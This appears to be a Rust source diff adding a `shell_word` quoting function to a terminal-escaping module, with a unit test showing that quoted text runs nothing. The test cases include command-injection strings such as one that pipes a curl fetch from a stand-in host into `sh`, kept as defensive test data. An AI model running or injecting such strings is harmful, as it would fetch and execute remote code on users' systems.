@@ -1,4 +1,4 @@
-//! Escapes text from a peer so that it is harmless on a terminal.
+//! Escapes text from a peer so that it is harmless on a terminal, and as a word of a shell.
 //!
 //! A server can hide terminal control sequences in a description, reverse the order of a line, or write words that only
 //! a model sees. Such characters are written as in JSON (`\u001b`), so that a JSON text keeps its value. Existing
@@ -41,6 +41,16 @@ fn escaped(text: &str, also: impl Fn(char) -> bool) -> Cow<'_, str> {
         }
     }
     Cow::Owned(out)
+}
+
+/// Returns a text as one word of a shell, for a command that a person may copy.
+#[must_use]
+pub fn shell_word(text: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "._:/@-".contains(c);
+    match !text.is_empty() && text.chars().all(is_plain) {
+        true => text.to_owned(),
+        false => format!("'{}'", text.replace('\'', r"'\''")),
+    }
 }
 
 /// Returns whether a character has an effect other than being displayed in its place.
@@ -128,6 +138,19 @@ mod tests {
             (0..=0x1f).chain(0x7f..=0x9f).filter_map(char::from_u32).filter(|c| !matches!(c, '\n' | '\t'))
         {
             assert!(is_unsafe(c), "{c:?}");
+        }
+    }
+
+    #[test]
+    fn words_of_a_shell_run_nothing() {
+        for (text, expected) in [
+            ("https://h.example:1/a_b-c", "https://h.example:1/a_b-c"),
+            ("a;curl${IFS}evil|sh", "'a;curl${IFS}evil|sh'"),
+            ("a'$(x)'", r"'a'\''$(x)'\'''"),
+            ("http://h/?…", "'http://h/?…'"),
+            ("", "''"),
+        ] {
+            assert_eq!(shell_word(text), expected);
         }
     }
 }
